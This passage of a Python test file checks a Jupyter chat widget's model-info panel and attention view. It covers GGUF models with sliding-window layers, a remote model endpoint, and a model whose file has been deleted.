        "chatflow: tiny-random-llama: llama, 91,136 parameters, F32, context 512 tokens; weights 0.3 MiB as float32, "
        "0.2 MiB as bfloat16"
    )
    assert out[1] == "chatflow: loading tiny.gguf…"
    assert panel.model_info["name"] == "tiny-random-llama" and panel.model_info["file"] == str(tiny_path)


GEMMA3 = Path(__file__).resolve().parents[2] / "model" / "archs" / "gemma3.gguf"  # layers 0–4 slide (window 8)


@pytest.fixture(scope="module")
def gemma3_model():
    return load_model(GEMMA3, dtype="float32")


def test_the_model_info_says_which_layers_slide_and_the_attention_reply_carries_the_window(gemma3_model, tmp_path):
    """The attention view labels layers by kind ("4 · sliding 8", "5 · global") from `model_info`, and draws a
    sliding layer's window from the reply's `window`: the map of layer 4 is zero before each query's 8 keys."""
    chat = Chat(model=gemma3_model, db=Database(tmp_path / "g.db"), session="g", system="Be brief.")  # (128 tokens)
    panel = ChatWidget(chat, settings=QUICK)
    panel.send = Recorder()  # type: ignore[method-assign]
    info = panel.model_info
    assert (info["architecture"], info["layers"], info["context_length"]) == ("gemma3", 6, 128)
    assert (info["sliding_window"], info["sliding_layers"]) == (8, [0, 1, 2, 3, 4])
    response = panel.ask("Hello there, how are you today?", max_tokens=4)
    panel.wait(60)
    for layer in (4, 5):
        message(panel, type="attention", request_id=str(layer), turn_id=response.turn_id, layer=layer, head=-1,
                mode="tokens")  # fmt: skip
    panel.chat.submit(lambda: None).result(60)
    (sliding, [data]), (global_, _) = panel.send.of("attention")
    assert (sliding["layer"], sliding["window"], global_["layer"], global_["window"]) == (4, 8, 5, 0)
    n = sliding["shape"][0]
    assert n > 8
    matrix = np.frombuffer(data, "<f2").reshape(n, n).astype(np.float32)
    assert np.all(np.tril(matrix, -8) == 0) and np.allclose(matrix.sum(1), 1.0, atol=1e-2)


def test_a_remote_panels_model_info_has_no_layer_kinds():
    """The server does not say how its model is built: no architecture, no sliding layers, no layers."""
    chat = Chat(base_url="http://127.0.0.1:9/v1", model="gpt-x", persist=False)
    info = model_setting.model_info(chat)
    assert info["name"] == "gpt-x"
    assert (info["architecture"], info["sliding_window"], info["sliding_layers"], info["layers"]) == ("", 0, [], 0)


def test_a_panel_over_a_model_whose_file_is_gone_still_shows_its_name(tiny_path, tmp_path):
    from jupyter_chatflow import load_model

    copy = tmp_path / "gone.gguf"
    copy.write_bytes(tiny_path.read_bytes())
    model = load_model(copy, dtype="float32")
    copy.unlink()
    panel = ChatWidget(Chat(model=model, db=Database(tmp_path / "gone.db"), session="gone"))
    assert (panel.model_info["name"], panel.model_info["summary"]) == ("tiny-random-llama", "tiny-random-llama")
